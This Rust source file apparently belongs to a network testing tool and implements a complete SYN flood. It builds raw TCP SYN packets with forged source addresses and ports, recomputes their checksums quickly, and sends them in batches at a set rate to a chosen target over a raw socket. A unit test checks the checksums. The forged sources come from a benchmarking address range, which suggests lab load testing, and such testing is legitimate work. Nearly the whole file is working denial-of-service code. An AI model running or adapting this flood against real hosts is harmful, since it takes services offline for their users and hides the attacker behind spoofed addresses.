//! A SYN flood: first packets of connections that nobody means, from sources that do not exist.
use std::io::{self, IoSlice};
use std::net::SocketAddrV4;
use std::os::fd::AsRawFd;
use std::thread;
use std::time::{Duration, Instant};

use nix::sys::socket::{
    AddressFamily, MsgFlags, MultiHeaders, SockFlag, SockProtocol, SockType, SockaddrIn, sendmmsg, socket,
};

use super::FloodReport;

/// Packets handed to the kernel at once.
const BATCH: u64 = 64;
/// IPv4 and TCP headers.
const PACKET: usize = 20 + 20;
/// Sources: 198.18.0.0/15, which is for measurements (RFC 2544).
const SOURCES: u32 = 0xc612_0000;
const SOURCE_BITS: u32 = 17;

#[derive(Debug, clap::Args)]
pub(super) struct FloodArgs {
    /// Whom to flood
    #[arg(long)]
    to: SocketAddrV4,

    /// SYNs a second
    #[arg(long)]
    rate: u32,

    /// How many in all
    #[arg(long)]
    count: u64,
}

/// Sends them all, as evenly as it can.
pub(super) fn flood(args: &FloodArgs) -> io::Result<FloodReport> {
    // Of this protocol the kernel takes whole packets, whatever source they name; see raw(7).
    let socket = socket(AddressFamily::Inet, SockType::Raw, SockFlag::SOCK_CLOEXEC, SockProtocol::Raw)?;
    let template = template(args.to);
    let mut packets = [template; BATCH as usize];
    let mut headers = MultiHeaders::<SockaddrIn>::preallocate(packets.len(), None);
    let to = vec![Some(SockaddrIn::from(args.to)); packets.len()];
    let mut random = 0x9e37_79b9_7f4a_7c15_u64;
    let (mut sent, began) = (0, Instant::now());
    while sent < args.count {
        let due = (began.elapsed().as_secs_f64() * f64::from(args.rate)) as u64;
        let batch = due.min(args.count).saturating_sub(sent).min(BATCH) as usize;
        if batch == 0 {
            thread::sleep(Duration::from_micros(100));
            continue;
        }
        for packet in &mut packets[..batch] {
            random = random.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            aim(packet, &template, (random >> 32) as u32, (random >> 16) as u16);
        }
        let slices: Vec<_> = packets[..batch].iter().map(|packet| [IoSlice::new(packet)]).collect();
        let flags = MsgFlags::empty();
        sent += sendmmsg(socket.as_raw_fd(), &mut headers, &slices, &to[..batch], [], flags)?.count() as u64;
    }
    Ok(FloodReport { sent, millis: began.elapsed().as_millis() as u64, ..FloodReport::default() })
}

/// A SYN without a source, and its checksum. (The kernel fills in length, id and checksum of the IPv4 header.)
fn template(to: SocketAddrV4) -> [u8; PACKET] {
    let mut packet = [0; PACKET];
    packet[..10].copy_from_slice(&[0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, 6]);
    packet[16..20].copy_from_slice(&to.ip().octets());
    packet[22..24].copy_from_slice(&to.port().to_be_bytes());
    packet[32..36].copy_from_slice(&[0x50, 0x02, 0xff, 0xff]);
    let sum = segment_sum(&packet);
    packet[36..38].copy_from_slice(&sum.to_be_bytes());
    packet
}

/// Gives a copy of the template its source. Two hundred thousand times a second, so the rest is not summed up again.
fn aim(packet: &mut [u8; PACKET], template: &[u8; PACKET], source: u32, port: u16) {
    let (source, port) = (SOURCES | source >> (32 - SOURCE_BITS), 1024 + port % 60_000);
    packet[12..16].copy_from_slice(&source.to_be_bytes());
    packet[20..22].copy_from_slice(&port.to_be_bytes());
    let sum = u32::from(template[36]) << 8 | u32::from(template[37]);
    let sum = !folded(sum + (source >> 16) + (source & 0xffff) + u32::from(port));
    packet[36..38].copy_from_slice(&sum.to_be_bytes());
}

/// The sum that TCP's checksum is of: the addresses, protocol and length of the segment, and the segment.
fn segment_sum(packet: &[u8; PACKET]) -> u16 {
    let (words, _) = packet[12..].as_chunks::<2>();
    folded(words.iter().map(|word| u32::from(u16::from_be_bytes(*word))).sum::<u32>() + 6 + 20)
}

fn folded(sum: u32) -> u16 {
    let sum = (sum & 0xffff) + (sum >> 16);
    ((sum & 0xffff) + (sum >> 16)) as u16
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_syn_has_a_good_checksum_whatever_its_source() {
        let template = template("192.0.2.1:80".parse().unwrap());
        let mut packet = template;
        for (source, port) in [(0, 0), (u32::MAX, u16::MAX), (0x1234_5678, 4711)] {
            aim(&mut packet, &template, source, port);
            assert_eq!(segment_sum(&packet), 0xffff);
            assert_eq!((packet[12], packet[13] & 0xfe), (198, 18));
        }
    }
}
